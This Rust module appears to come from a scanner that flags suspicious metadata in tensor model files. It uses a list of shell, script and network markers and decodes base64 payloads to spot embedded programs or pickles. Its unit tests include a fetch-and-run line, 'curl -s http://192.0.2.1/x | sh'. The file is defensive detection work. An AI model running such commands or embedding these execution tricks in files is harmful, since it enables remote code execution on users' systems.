//! Which metadata of a tensor file is worth stating: what runs, what leads away, what hides.
//!
//! Metadata is text for people, and nothing in it has to be run. Stating every pair would bury the
//! ones that matter, so a value becomes a fact when it holds one of the marks below. The marks are
//! generous on purpose: whether one is an offence is for a rule to say.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use headworks_types::{Location, fact::TensorFact};

use crate::inspection::Inspection;

/// Marks in ASCII lower case, worst first: a decoy of a weaker kind must not hide a stronger one.
const MARKS: &[&str] = &[
    "/dev/tcp/",
    "powershell",
    "cmd.exe",
    "cmd /c",
    "bash -c",
    "sh -c",
    "/bin/sh",
    "/bin/bash",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| python",
    "|python",
    "rm -rf",
    "mshta",
    "certutil",
    "os.system",
    "os.popen",
    "subprocess",
    "__import__",
    "importlib",
    "eval(",
    "exec(",
    "pickle.loads",
    "<script",
    "<iframe",
    "<object",
    "<embed",
    "javascript:",
    "onerror=",
    "onload=",
    "$(",
    "curl ",
    "wget ",
    "<?php",
    "://",
];

/// Characters kept on either side of a mark.
const CONTEXT_CHARACTERS: usize = 120;

/// A shorter run of base64 letters is a word or a digest.
const BASE64_RUN_MIN: usize = 24;

/// A longer run is stated whatever it decodes to, unless that is an image.
const BASE64_RUN_NOTABLE: usize = 1024;

/// States `value` when it holds something that a rule must judge.
pub(crate) fn state_metadata(location: Location, key: &str, value: &str, inspection: &mut Inspection<'_>) {
    if let Some(value) = notable(value) {
        inspection.fact(location, TensorFact::Metadata { key: shortened(key), value });
    }
}

/// A key or a value as it goes into a fact: its first characters, and an ellipsis for the rest.
pub(crate) fn shortened(text: &str) -> String {
    let mut characters = text.chars();
    let mut short: String = characters.by_ref().take(CONTEXT_CHARACTERS).collect();
    if characters.next().is_some() {
        short.push('…');
    }
    short
}

/// The part of `value` around its worst mark, or an encoded payload with what it decodes to.
fn notable(value: &str) -> Option<String> {
    let lower = value.to_ascii_lowercase();
    let mark = MARKS.iter().find_map(|mark| memchr::memmem::find(lower.as_bytes(), mark.as_bytes()));
    let strong = mark.filter(|&at| !lower.get(at..).is_some_and(|rest| rest.starts_with("://")));
    let place = strong.map(|at| around(value, at));
    place.or_else(|| encoded(value)).or_else(|| mark.map(|at| around(value, at)))
}

/// The text around the byte offset `at`, which is a character boundary.
fn around(value: &str, at: usize) -> String {
    let (before, after) = value.split_at_checked(at).unwrap_or((value, ""));
    let kept = before.char_indices().rev().nth(CONTEXT_CHARACTERS);
    let (lead, before) = match kept {
        Some((cut, _)) => ("…", before.get(cut..).unwrap_or_default()),
        None => ("", before),
    };
    format!("{lead}{before}{}", shortened(after))
}

/// The first run of base64 that decodes to something that could run, or that is very long.
fn encoded(value: &str) -> Option<String> {
    let is_letter = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/');
    let runs = value.as_bytes().chunk_by(|a, b| is_letter(a) == is_letter(b));
    let runs = runs.filter(|run| run.len() >= BASE64_RUN_MIN && run.first().is_some_and(is_letter));
    runs.filter_map(payload).next()
}

/// Says what a run of base64 letters decodes to, if that is notable.
fn payload(run: &[u8]) -> Option<String> {
    let head = run.get(..run.len().min(BASE64_RUN_NOTABLE))?;
    let whole_quads = head.len().saturating_sub(head.len().checked_rem(4).unwrap_or(0));
    let decoded = STANDARD_NO_PAD.decode(head.get(..whole_quads)?).ok()?;
    let shown = shortened(&String::from_utf8_lossy(head));
    if let Some(kind) = program(&decoded) {
        return Some(format!("{shown} (base64 of {kind})"));
    }
    let text = str::from_utf8(&decoded).ok().filter(|text| is_readable(text)).unwrap_or_default();
    let lower = text.to_ascii_lowercase();
    if let Some(at) = MARKS.iter().find_map(|mark| lower.find(mark)) {
        return Some(format!("{shown} (base64 of `{}`)", around(text, at)));
    }
    let long = run.len() >= BASE64_RUN_NOTABLE && has_all_classes(head) && !is_image(&decoded);
    long.then(|| format!("{shown} (base64, {} characters)", run.len()))
}

/// What a word of base64 letters decodes to by chance is not.
fn is_readable(text: &str) -> bool {
    text.bytes().all(|byte| byte.is_ascii_graphic() || byte.is_ascii_whitespace())
}

/// Digits in hexadecimal or decimal are long runs too, and no base64.
fn has_all_classes(run: &[u8]) -> bool {
    let classes: [fn(&u8) -> bool; 3] = [u8::is_ascii_lowercase, u8::is_ascii_uppercase, u8::is_ascii_digit];
    classes.iter().all(|class| run.iter().any(class))
}

fn program(decoded: &[u8]) -> Option<&'static str> {
    let magics: [(&[u8], &str); 8] = [
        (b"\x7fELF", "an ELF program"),
        (b"MZ\x90\0", "a Windows program"),
        (b"#!/", "a script"),
        (b"PK\x03\x04", "a zip archive"),
        (b"\x80\x02", "a pickle"),
        (b"\x80\x03", "a pickle"),
        (b"\x80\x04\x95", "a pickle"),
        (b"\x80\x05\x95", "a pickle"),
    ];
    magics.into_iter().find(|(magic, _)| decoded.starts_with(magic)).map(|(_, kind)| kind)
}

/// Checkpoints carry their thumbnail as a data URL (`modelspec.thumbnail`).
fn is_image(decoded: &[u8]) -> bool {
    [&b"\xff\xd8\xff"[..], b"\x89PNG", b"GIF8", b"RIFF"].iter().any(|magic| decoded.starts_with(magic))
}

#[cfg(test)]
mod tests {
    use base64::engine::general_purpose::STANDARD;

    use super::*;

    #[test]
    fn a_weak_mark_before_a_strong_one_does_not_hide_it() {
        let value = format!("see https://example.invalid/{}; curl -s http://192.0.2.1/x | sh", "a ".repeat(400));
        assert!(notable(&value).is_some_and(|shown| shown.contains("| sh")));
    }

    #[test]
    fn everyday_metadata_is_not_stated() {
        let sha256 = "0x9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
        for value in ["pt", "apache-2.0", sha256, r#"{"conv_dim": "64", "algo": "lora"}"#, "масса ≤ 4 GiB"] {
            assert_eq!(notable(value), None, "{value}");
        }
    }

    #[test]
    fn base64_of_a_command_is_shown_decoded() {
        let encoded = STANDARD.encode("import os; os.system('echo headworks-marker')");
        assert!(notable(&encoded).is_some_and(|shown| shown.contains("os.system('echo headworks-marker')")));
    }

    #[test]
    fn a_thumbnail_is_not_stated_and_an_unknown_blob_of_its_size_is() {
        let mut jpeg = b"\xff\xd8\xff\xe0".to_vec();
        jpeg.extend((0..3000u32).map(|byte| (byte * 7 % 251) as u8));
        let thumbnail = format!("data:image/jpeg;base64,{}", STANDARD.encode(&jpeg));
        assert_eq!(notable(&thumbnail), None);
        assert!(notable(&STANDARD.encode(&jpeg[4..])).is_some());
    }

    #[test]
    fn the_excerpt_of_multibyte_text_ends_at_characters() {
        let value = format!("{}os.system('x'){}", "é".repeat(500), "é".repeat(500));
        assert!(notable(&value).is_some_and(|shown| shown.chars().count() < 300 && shown.contains("os.system")));
    }
}
